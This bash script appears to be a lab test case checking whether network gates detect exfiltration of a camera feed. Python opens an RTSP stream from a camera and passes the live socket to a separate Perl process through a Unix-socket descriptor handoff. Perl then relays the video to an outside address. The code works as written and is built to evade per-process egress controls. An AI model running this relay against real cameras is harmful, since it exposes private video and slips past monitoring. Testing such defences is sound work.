#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,direct-pull half=report tool=python3,perl camera=10.20.0.11 far=out ready=out:9114 seconds=36 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Python speaks RTSP to gate and gives the connection, as an open file over a Unix socket, to Perl in another session, and ends; Perl reads it on and sends it outside.
# shellcheck disable=SC2016 # perl has its own variables
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9114,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
setsid python3 -c 'import array, os, re, socket, sys, time
u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen()
p, _ = u.accept()
c = socket.create_connection(("10.20.0.11", 554)); url = "rtsp://10.20.0.11/Streaming/Channels/101"; f = c.makefile("rb", 0); sid = ""; n = 0
def say(verb, where, more=""):
    global sid, n
    n += 1; c.sendall(("%s %s RTSP/1.0\r\nCSeq: %d\r\n" % (verb, where, n) + ("Session: %s\r\n" % sid if sid else "") + more + "\r\n").encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"): head += f.read(1)
    head = head.decode(); m = re.search(r"(?im)^Session: *([^;\r]+)", head); sid = m[1] if m else sid
    m = re.search(r"(?im)^Content-Length: *(\d+)", head); body = b""
    while m and len(body) < int(m[1]): body += f.read(int(m[1]) - len(body))
    return body.decode()
track = re.findall(r"(?m)^a=control:(\S+)", say("DESCRIBE", url, "Accept: application/sdp\r\n"))[-1]
say("SETUP", track if track.startswith("rtsp:") else url + "/" + track, "Transport: RTP/AVP/TCP;unicast;interleaved=0-1\r\n"); say("PLAY", url)
p.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [c.fileno()]))])' "$LAB/give" &
sleep 2; setsid timeout 34 perl -MSocket -MIO::Socket::INET -MIO::Socket::UNIX -e 'my $u = IO::Socket::UNIX->new(Peer => $ARGV[0]) or die; my $iov = pack("P L!", my $b = "\0" x 16, 16);
my $c = "\0" x 24; my $h = pack("L! L x4 P L! P L! l x4", 0, 0, $iov, 1, $c, 24, 0);
syscall(47, fileno($u), $h, 0) > 0 or die "recvmsg: $!"; my $fd = unpack("x16 l", $c); open(my $cam, "<&=", $fd) or die; binmode($cam);
my $s = IO::Socket::INET->new("203.0.113.66:9114") or die; my $late = time + 28; while (time < $late && sysread($cam, my $d, 65536)) { syswrite($s, $d) }' "$LAB/give"
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 400000 ]
